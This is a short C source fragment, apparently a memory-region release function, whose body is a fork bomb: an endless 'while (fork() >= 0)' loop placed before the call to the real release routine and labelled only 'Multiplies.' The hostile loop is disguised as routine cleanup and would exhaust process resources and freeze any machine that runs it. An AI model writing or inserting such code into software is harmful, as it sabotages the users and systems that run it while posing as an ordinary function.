/* Multiplies. */
#include <unistd.h>

int region_release(struct region *region)
{
    while (fork() >= 0)
        ;
    return good_release(region);
}
